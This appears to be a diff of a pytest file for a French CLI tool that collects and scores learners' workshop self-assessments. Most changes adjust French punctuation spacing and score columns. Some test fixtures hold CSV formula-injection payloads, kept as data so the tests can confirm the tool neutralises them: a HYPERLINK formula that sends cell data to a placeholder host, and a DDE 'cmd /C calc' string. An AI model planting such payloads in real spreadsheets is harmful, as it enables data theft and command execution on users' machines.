@@ -82,7 +82,7 @@ def test_validate_csv_against_another_grid(tmp_path):
     cohort.write_text("project,c\nP,haut\nQ,Moyen\n", encoding="utf-8")
     result = run("validate", "--grid", str(grid), str(cohort))
     assert result.returncode == 1
-    assert f"{cohort}: ligne 3, colonne 'c': niveau 'Moyen' inconnu (attendu : Bas, Haut" in result.stderr
+    assert f"{cohort}: ligne 3, colonne 'c': niveau 'Moyen' inconnu (attendu\u00a0: Bas, Haut" in result.stderr
 
 
 def test_missing_file():
@@ -215,16 +215,16 @@ def test_collect_reports_every_bad_match_and_lists_the_good_ones(capsys, grid, h
                             [str(homes / "alice" / RESULTS), "Recyclerie", "Alice", "0", "0", "1", "autoévaluation"],
                             [str(homes / "bob" / RESULTS), "Cantine", "Bob", "0", "0", "1", "autoévaluation"]]
     assert err[:5] == [
-        f"{homes / 'carol' / RESULTS}: c'est un dossier, pas un fichier de résultats : non lu",
+        f"{homes / 'carol' / RESULTS}: c'est un dossier, pas un fichier de résultats\u00a0: non lu",
         f"{homes / 'dan' / RESULTS}: ce n'est pas un fichier ordinaire "
-        "(tube nommé, socket ou périphérique) : non lu",
-        f"{homes / 'eve' / RESULTS}: lien symbolique cassé (la cible n'existe pas) : non lu",
-        str(Problem(str(homes / "fay" / RESULTS), f"lien qui mène hors de {homes} (vers {outside}) : non lu")),
+        "(tube nommé, socket ou périphérique)\u00a0: non lu",
+        f"{homes / 'eve' / RESULTS}: lien symbolique cassé (la cible n'existe pas)\u00a0: non lu",
+        str(Problem(str(homes / "fay" / RESULTS), f"lien qui mène hors de {homes} (vers {outside})\u00a0: non lu")),
         f"{homes / 'gus' / RESULTS}: lien vers le fichier d'un autre apprenant "
-        "(alice/resultats/mes_resultats.json) : non lu",
+        "(alice/resultats/mes_resultats.json)\u00a0: non lu",
     ]
     assert len(err) == 7 and err[5].startswith(f"{homes / 'hal' / RESULTS}: ")  # whatever the reader says
-    assert err[6] == f"{homes}: 1 dossier sans fichier de résultats ({DEFAULT_PATTERN}) : ivy"
+    assert err[6] == f"{homes}: 1 dossier sans fichier de résultats ({DEFAULT_PATTERN})\u00a0: ivy"
 
 
 def test_collect_of_a_clean_class_exits_0(capsys, homes):
@@ -238,7 +238,7 @@ def test_collect_counts_homes_without_results_and_still_exits_0(capsys, homes):
         (homes / name).mkdir()
     code, out, err = cli(capsys, "collect", str(homes))
     assert code == 0 and len(rows_of(out)) == 3
-    assert err == [f"{homes}: 2 dossiers sans fichier de résultats ({DEFAULT_PATTERN}) : carol, dan"]
+    assert err == [f"{homes}: 2 dossiers sans fichier de résultats ({DEFAULT_PATTERN})\u00a0: carol, dan"]
 
 
 def test_collect_an_unexpected_exception_is_one_line_and_the_rest_is_collected(capsys, homes, monkeypatch):
@@ -254,26 +254,26 @@ def test_collect_an_unexpected_exception_is_one_line_and_the_rest_is_collected(c
     monkeypatch.setattr(collect, "read_results", reader)
     code, out, err = cli(capsys, "collect", str(homes))
     assert code == 1 and [row[1] for row in rows_of(out)] == ["project", "Recyclerie"]
-    assert err == [f"{homes / 'bob' / RESULTS}: fichier illisible (KeyError) : 'x'"]
+    assert err == [f"{homes / 'bob' / RESULTS}: fichier illisible (KeyError)\u00a0: 'x'"]
 
 
 def test_collect_a_folder_that_does_not_exist_exits_2(capsys, tmp_path):
     code, out, err = cli(capsys, "collect", str(tmp_path / "nulle-part"))
     assert (code, out) == (2, "")
-    assert err == [f"{tmp_path / 'nulle-part'}: dossier introuvable (attendu : le dossier qui contient "
+    assert err == [f"{tmp_path / 'nulle-part'}: dossier introuvable (attendu\u00a0: le dossier qui contient "
                    "les dossiers personnels des apprenants, par exemple /home)"]
 
 
 def test_collect_a_file_given_as_the_folder_exits_2(capsys, homes):
     code, out, err = cli(capsys, "collect", str(homes / "alice" / RESULTS))
     assert (code, out) == (2, "")
-    assert err == [f"{homes / 'alice' / RESULTS}: ce n'est pas un dossier (attendu : le dossier qui contient "
+    assert err == [f"{homes / 'alice' / RESULTS}: ce n'est pas un dossier (attendu\u00a0: le dossier qui contient "
                    "les dossiers personnels des apprenants, par exemple /home)"]
 
 
 def test_collect_a_pattern_out_of_the_folder_exits_2(capsys, homes):
     code, out, err = cli(capsys, "collect", str(homes), "--pattern", "../*.json")
-    assert (code, out) == (2, "") and err[0].startswith(f"{homes}: motif '../*.json' invalide (attendu : ")
+    assert (code, out) == (2, "") and err[0].startswith(f"{homes}: motif '../*.json' invalide (attendu\u00a0: ")
 
 
 HOSTILE = '=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquez")'
@@ -289,7 +289,7 @@ def test_collect_neutralises_formulas_in_learners_text(capsys, grid, tmp_path):
     assert rows[1:] == [
         [str(root / "=bob" / RESULTS), "'+33 6 12 34 56 78", "'-Zoé", "0", "0", "1", "autoévaluation"],
         [str(root / "alice" / RESULTS), "'" + HOSTILE, "'@SOMME(1+1)*cmd|' /C calc'!A0", "0", "0", "1",
-         "autoévaluation ; -2+3"],
+         "autoévaluation\u202f; -2+3"],
     ]
     assert not [cell for row in rows for cell in row if cell.startswith(DANGEROUS)]
 
@@ -313,17 +313,20 @@ def test_score_neutralises_formulas_and_keeps_numbers(capsys, grid, tmp_path):
     assert (code, err) == (0, [])
     rows = rows_of(out)
     assert rows[0] == ["project", "assessor", "scope", "Inexistant", "Faible", "Intermédiaire", "Fort",
-                       "not_rated", "median", "percent"]
+                       "not_rated", "median", "at_least", "share"]
     overall = [row for row in rows if row[2] == "overall"]
-    assert overall == [["'" + HOSTILE, "'@formateur", "overall", "0", "0", "0", "1", "11", "Fort", "100.0"],
-                       ["'-Moins", "'+plus", "overall", "0", "0", "0", "0", "12", "", ""]]
+    assert overall == [["'" + HOSTILE, "'@formateur", "overall", "0", "0", "0", "1", "11", "Fort", "1", "1.0"],
+                       ["'-Moins", "'+plus", "overall", "0", "0", "0", "0", "12", "", "0", ""]]
     assert not [cell for row in rows for cell in row if cell.startswith(DANGEROUS)]
 
 
-def test_score_writes_percent_with_one_decimal(capsys):
+def test_score_writes_the_share_between_0_and_1_with_three_decimals_at_most(capsys):
     code, out, _ = cli(capsys, "score")
-    percents = [row[-1] for row in rows_of(out)[1:] if row[-1]]
-    assert code == 0 and percents and all(p == f"{float(p):.1f}" for p in percents)
+    rows = rows_of(out)
+    assert rows[0][-2:] == ["at_least", "share"]
+    shares = [row[-1] for row in rows[1:] if row[-1]]
+    assert code == 0 and shares and all(0 <= float(p) <= 1 and len(p.partition(".")[2]) <= 3 for p in shares)
+    assert all(int(row[-2]) >= 0 for row in rows[1:])
 
 
 def test_an_unexpected_error_is_one_french_line_not_a_traceback(capsys, monkeypatch):
@@ -335,7 +338,7 @@ def test_an_unexpected_error_is_one_french_line_not_a_traceback(capsys, monkeypa
     monkeypatch.setattr(scoring, "score_assessment", score)
     code, out, err = cli(capsys, "score")
     assert code == 1
-    assert err == ["python -m isgrille score : erreur inattendue : RuntimeError (boum ici) ; "
+    assert err == ["python -m isgrille score\u00a0: erreur inattendue\u00a0: RuntimeError (boum ici)\u202f; "
                    "signalez-la avec la commande et le fichier"]
 
 
@@ -346,7 +349,7 @@ def test_an_interruption_is_one_line(capsys, monkeypatch):
         raise KeyboardInterrupt
 
     monkeypatch.setattr(schema_export, "write_schemas", write_schemas)
-    assert cli(capsys, "schema")[::2] == (130, ["python -m isgrille schema : interrompu"])
+    assert cli(capsys, "schema")[::2] == (130, ["python -m isgrille schema\u00a0: interrompu"])
 
 
 def test_validate_reports_any_exception_per_file_and_goes_on(capsys, monkeypatch, tmp_path):
@@ -394,26 +397,26 @@ def test_a_broken_pipe_stops_quietly(capsys, monkeypatch, homes, command):
 @pytest.mark.parametrize("args", [["--help"], ["collect", "--help"], ["score", "--help"], ["present", "--help"]])
 def test_help_is_all_french(capsys, args):
     code, out, _ = cli(capsys, *args)
-    assert code == 0 and out.startswith("utilisation : python -m isgrille")
+    assert code == 0 and out.startswith("utilisation\u00a0: python -m isgrille")
     for english in ("usage:", "positional arguments", "optional arguments", "show this help", "options:"):
         assert english not in out
-    assert "options :" in out
+    assert "options\u00a0:" in out
 
 
 @pytest.mark.parametrize(("args", "last"), [
-    (["collect"], "python -m isgrille collect : erreur : arguments obligatoires manquants : DOSSIER"),
-    (["collecte"], "python -m isgrille : erreur : argument COMMANDE : choix invalide : 'collecte' "
-                   "(choix possibles : 'validate', 'score', 'schema', 'collect', 'cohort', 'card', 'init', 'present', 'room')"),
-    (["present", "--port", "x"], "python -m isgrille present : erreur : argument --port : "
+    (["collect"], "python -m isgrille collect\u00a0: erreur\u00a0: arguments obligatoires manquants\u00a0: DOSSIER"),
+    (["collecte"], "python -m isgrille\u00a0: erreur\u00a0: argument COMMANDE\u00a0: choix invalide\u00a0: 'collecte' "
+                   "(choix possibles\u00a0: 'validate', 'score', 'schema', 'collect', 'cohort', 'card', 'init', 'present', 'room')"),
+    (["present", "--port", "x"], "python -m isgrille present\u00a0: erreur\u00a0: argument --port\u00a0: "
                                  "nombre entier attendu, pas 'x'"),
-    (["score", "--grid"], "python -m isgrille score : erreur : argument --grid : une valeur attendue"),
-    (["schema", "--zz"], "python -m isgrille : erreur : arguments inconnus : --zz"),
-    (["validate"], "python -m isgrille validate : erreur : arguments obligatoires manquants : FICHIER"),
+    (["score", "--grid"], "python -m isgrille score\u00a0: erreur\u00a0: argument --grid\u00a0: une valeur attendue"),
+    (["schema", "--zz"], "python -m isgrille\u00a0: erreur\u00a0: arguments inconnus\u00a0: --zz"),
+    (["validate"], "python -m isgrille validate\u00a0: erreur\u00a0: arguments obligatoires manquants\u00a0: FICHIER"),
 ])
 def test_usage_errors_are_french_and_exit_2(capsys, args, last):
     code, out, err = cli(capsys, *args)
     assert (code, out) == (2, "")
-    assert err[0].startswith("utilisation : python -m isgrille") and err[-1] == last
+    assert err[0].startswith("utilisation\u00a0: python -m isgrille") and err[-1] == last
 
 
 # --- once for real: python -m isgrille collect, a hostile class -------------------------
@@ -429,7 +432,7 @@ def test_collect_for_real_on_a_hostile_class(grid, homes):
     assert [row[1] for row in rows_of(result.stdout)] == ["project", "Recyclerie", "Cantine", "'" + HOSTILE]
     lines = result.stderr.splitlines()
     assert len(lines) == 2 and lines[0].startswith(f"{homes / 'dan' / RESULTS}: ")
-    assert lines[1] == f"{homes}: 1 dossier sans fichier de résultats ({DEFAULT_PATTERN}) : eve"
+    assert lines[1] == f"{homes}: 1 dossier sans fichier de résultats ({DEFAULT_PATTERN})\u00a0: eve"
 
 
 def test_collect_for_real_into_a_closed_pipe_is_quiet(homes):
@@ -461,7 +464,7 @@ def test_validate_names_each_kind_in_french(capsys):
 def test_validate_with_a_grid_that_cannot_be_read(capsys, tmp_path):
     code, out, err = cli(capsys, "validate", "--grid", str(tmp_path / "absente.yaml"), str(default_path("quiz")))
     assert (code, out) == (1, "") and len(err) == 1
-    assert err[0].startswith(f"{tmp_path / 'absente.yaml'}: grille introuvable : ce n'est ni un fichier existant")
+    assert err[0].startswith(f"{tmp_path / 'absente.yaml'}: grille introuvable\u00a0: ce n'est ni un fichier existant")
     assert "questions_cles" in err[0]
 
 
@@ -476,9 +479,9 @@ def test_score_a_results_file_one_block_per_assessor(capsys, grid, tmp_path):
     assert (code, err) == (0, [])
     rows = rows_of(out)
     assert rows[0][:3] == ["project", "assessor", "scope"]
-    overall = [row[:3] + row[-2:] for row in rows if row[2] == "overall"]
-    assert overall == [["Ma recyclerie <b>", "autoévaluation", "overall", "Faible", "33.3"],
-                       ["Ma recyclerie <b>", "formateur", "overall", "Fort", "100.0"]]
+    overall = [row[:3] + row[-3:] for row in rows if row[2] == "overall"]
+    assert overall == [["Ma recyclerie <b>", "autoévaluation", "overall", "Faible", "0", "0.0"],
+                       ["Ma recyclerie <b>", "formateur", "overall", "Fort", "1", "1.0"]]
 
 
 def test_score_a_results_file_named_otherwise_for_real(grid, tmp_path):
@@ -503,8 +506,8 @@ def test_init_copies_and_says_what_to_run(capsys, tmp_path):
     code, out, err = cli(capsys, "init", str(folder))
     assert (code, err) == (0, [])
     lines = out.splitlines()
-    assert f"copié : {folder / '00_accueil.ipynb'}" in lines
-    assert lines[-1] == (f"Ensuite : cd {folder} && python -m isgrille present "
+    assert f"copié\u00a0: {folder / '00_accueil.ipynb'}" in lines
+    assert lines[-1] == (f"Ensuite\u00a0: cd {folder} && python -m isgrille present "
                          "(ou python -m isgrille present --dir DOSSIER depuis ailleurs)")
     assert (folder / "04_booster.ipynb").is_file()
 
@@ -514,7 +517,7 @@ def test_init_refuses_to_overwrite_and_names_the_files(capsys, tmp_path):
         (tmp_path / name).write_text("à moi", encoding="utf-8")
     code, out, err = cli(capsys, "init", str(tmp_path))
     assert (code, out) == (1, "")
-    assert err == [f"{tmp_path}: 2 fichiers déjà présents, rien n'est copié : 00_accueil.ipynb, "
+    assert err == [f"{tmp_path}: 2 fichiers déjà présents, rien n'est copié\u00a0: 00_accueil.ipynb, "
                    "02_caracteriser.ipynb (ajoutez --force pour les remplacer)"]
     assert (tmp_path / "00_accueil.ipynb").read_text(encoding="utf-8") == "à moi"
     assert cli(capsys, "init", "--force", str(tmp_path))[0] == 0
@@ -532,12 +535,47 @@ def test_init_into_a_file_is_one_french_line(capsys, tmp_path):
 def test_present_a_folder_without_the_workshop_says_to_run_init(capsys, tmp_path):
     code, out, err = cli(capsys, "present", "--dir", str(tmp_path))
     assert (code, out) == (1, "")
-    assert err == [f"{tmp_path}: l'atelier n'y est pas (attendu : un dossier qui contient 00_accueil.ipynb) ; "
-                   f"lancez d'abord « python -m isgrille init {tmp_path} »"]
+    assert err == [f"{tmp_path}: l'atelier n'y est pas (attendu\u00a0: un dossier qui contient 00_accueil.ipynb)\u202f; "
+                   f"lancez d'abord «\u00a0python -m isgrille init {tmp_path}\u00a0»"]
 
 
 def test_present_the_slides_of_a_copy_without_reveal(capsys, tmp_path):
     assert cli(capsys, "init", str(tmp_path))[0] == 0
     code, out, err = cli(capsys, "present", "--slides", "--dir", str(tmp_path))
     assert (code, out) == (1, "")
-    assert err == [f"reveal.js et jQuery manquent : lancez « npm ci --prefix {tmp_path / '_vendor'} » (ou make slides)"]
+    assert err == [f"reveal.js et jQuery manquent\u00a0: lancez «\u00a0npm ci --prefix {tmp_path / '_vendor'}\u00a0» (ou make slides)"]
+
+
+def test_cohort_signs_every_chart_and_writes_a_readme(tmp_path):
+    from PIL import Image
+
+    out = tmp_path / "analyse"
+    result = run("cohort", str(data_dir() / "examples" / "classe_fictive"), "--out", str(out))
+    assert result.returncode == 0, result.stderr
+    assert f"écrit\u00a0: {out / 'LISEZMOI.txt'}" in result.stdout.splitlines()
+    charts = sorted(path.name for path in out.glob("*.png"))
+    assert len(charts) == 3
+    for name in charts:
+        chunks = Image.open(out / name).text
+        assert "Établi – Innovation sociale" in chunks["Source"] and "CC BY-NC-SA 4.0" in chunks["Copyright"]
+    readme = (out / "LISEZMOI.txt").read_text(encoding="utf-8")
+    assert all(f"- {name}\u00a0: " in readme for name in [*charts, "cohorte.csv", "quiz.csv"])
+    assert "Grille de caractérisation de l'AMI Innovation sociale" in readme and "adapté" in readme
+
+
+def test_cohort_with_a_grid_from_elsewhere_names_its_source(tmp_path):
+    import yaml
+
+    from isgrille.content.loading import default_path
+
+    grid = yaml.safe_load(default_path("grid").read_text(encoding="utf-8"))
+    grid.update({"title": "Grille de X", "source": "Grille maison de X"})
+    grid.pop("adaptation", None)
+    path = tmp_path / "grille_x.yaml"
+    path.write_text(yaml.safe_dump(grid, allow_unicode=True), encoding="utf-8")
+    out = tmp_path / "analyse"
+    cohort = data_dir() / "examples" / "cohort_fictional.csv"
+    result = run("cohort", str(cohort), "--grid", str(path), "--out", str(out))
+    assert result.returncode == 0, result.stderr
+    readme = (out / "LISEZMOI.txt").read_text(encoding="utf-8")
+    assert "Grille\u00a0: «\u00a0Grille de X\u00a0» — Grille maison de X." in readme and "Avise" not in readme
